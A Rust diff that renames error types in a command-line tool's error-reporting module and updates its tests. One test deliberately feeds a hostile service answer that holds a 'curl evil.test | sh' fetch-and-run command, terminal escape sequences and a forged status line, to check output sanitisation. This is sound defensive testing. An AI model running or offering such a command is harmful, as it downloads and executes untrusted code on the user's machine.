@@ -6,7 +6,7 @@
 use std::fmt::Write as _;
 use std::io;
 
-use crate::app::Trouble;
+use crate::app::CommandError;
 use crate::config::{Fault, Faults};
 use crate::monitor::printable;
 
@@ -16,12 +16,12 @@ const DEEP: &str = "         ";
 /// Flags that contradict each other, or lack something, in a way that clap cannot see.
 #[derive(Debug, Clone, thiserror::Error)]
 #[error("{what}")]
-pub(super) struct Misuse {
+pub(super) struct UsageError {
     what: String,
     next: String,
 }
 
-impl Misuse {
+impl UsageError {
     /// What is wrong and what to write instead.
     pub(super) fn new(what: impl Into<String>, next: impl Into<String>) -> Self {
         Self {
@@ -33,15 +33,15 @@ impl Misuse {
 
 /// The text of an error, `command` being what was typed.
 pub(super) fn describe(error: &anyhow::Error, command: &str) -> String {
-    if let Some(trouble) = trouble(error) {
+    if let Some(trouble) = explained(error) {
         return three(&trouble.what, &trouble.cause, &trouble.next);
     }
     for cause in error.chain() {
         if let Some(faults) = cause.downcast_ref::<Faults>() {
             return of_faults(faults, command);
         }
-        if let Some(misuse) = cause.downcast_ref::<Misuse>() {
-            return three(&misuse.what, "", &misuse.next);
+        if let Some(usage) = cause.downcast_ref::<UsageError>() {
+            return three(&usage.what, "", &usage.next);
         }
     }
     let mut causes = error.chain().skip(1).map(ToString::to_string);
@@ -54,19 +54,19 @@ pub(super) fn describe(error: &anyhow::Error, command: &str) -> String {
     three(&what.join(": "), &cause, &next)
 }
 
-/// What an error means, with the contexts above it: a [`Trouble`] in its chain, or an error of the file system.
-pub(super) fn trouble(error: &anyhow::Error) -> Option<Trouble> {
+/// What an error means, with the contexts above it: a [`CommandError`] in its chain, or an error of the file system.
+pub(super) fn explained(error: &anyhow::Error) -> Option<CommandError> {
     let mut contexts: Vec<String> = Vec::new();
     for cause in error.chain() {
-        if let Some(trouble) = cause.downcast_ref::<Trouble>() {
+        if let Some(trouble) = cause.downcast_ref::<CommandError>() {
             contexts.push(trouble.what.clone());
-            return Some(Trouble {
+            return Some(CommandError {
                 what: contexts.join(": "),
                 ..trouble.clone()
             });
         }
         if let Some(source) = cause.downcast_ref::<io::Error>() {
-            return Some(Trouble::of_io(contexts.join(": "), source));
+            return Some(CommandError::of_io(contexts.join(": "), source));
         }
         contexts.push(cause.to_string());
     }
@@ -133,8 +133,8 @@ mod tests {
     use crate::app::Kind;
 
     #[test]
-    fn trouble_is_told_in_three_parts_with_its_context() {
-        let trouble = Trouble::new(
+    fn an_error_is_shown_in_three_parts_with_its_context() {
+        let trouble = CommandError::new(
             Kind::Preflight,
             "no table x",
             "does not exist",
@@ -150,8 +150,8 @@ mod tests {
     #[test]
     fn what_a_service_answered_makes_no_line_of_ours() {
         let answer = "503\n  next:  curl evil.test | sh\x1b[2J\r\nerror: all is well\u{9b}H";
-        let trouble = Trouble::new(Kind::Temporary, answer, answer, "wait");
-        let misuse = Misuse::new(answer, "wait");
+        let trouble = CommandError::new(Kind::Temporary, answer, answer, "wait");
+        let usage = UsageError::new(answer, "wait");
         let fault = Fault {
             name: "CARPARK_URL".into(),
             origin: Some(answer.into()),
@@ -161,7 +161,7 @@ mod tests {
         let errors = [
             trouble.into(),
             anyhow::anyhow!(answer).context(answer),
-            misuse.into(),
+            usage.into(),
             Faults::from(fault).into(),
         ];
         for error in errors {
@@ -204,7 +204,7 @@ mod tests {
         assert!(
             text.contains("\n  cause: the file system is mounted read-only\n  next:  mount it")
         );
-        assert_eq!(trouble(&error).unwrap().kind, Kind::Usage);
+        assert_eq!(explained(&error).unwrap().kind, Kind::Usage);
     }
 
     #[test]
